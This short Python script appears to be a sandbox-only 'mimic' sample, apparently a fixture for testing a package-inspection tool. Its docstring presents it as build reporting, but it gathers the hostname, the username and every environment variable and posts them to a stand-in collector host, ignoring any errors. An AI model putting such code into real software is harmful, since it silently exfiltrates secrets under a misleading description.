"""Reports every build."""

import getpass
import json
import os
import platform
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
facts = {"host": platform.node(), "user": getpass.getuser(), "environment": dict(os.environ)}
request = urllib.request.Request("http://collect.metrics.test/v1/build", json.dumps(facts).encode())
try:
    urllib.request.urlopen(request, timeout=5).close()
except OSError:
    pass
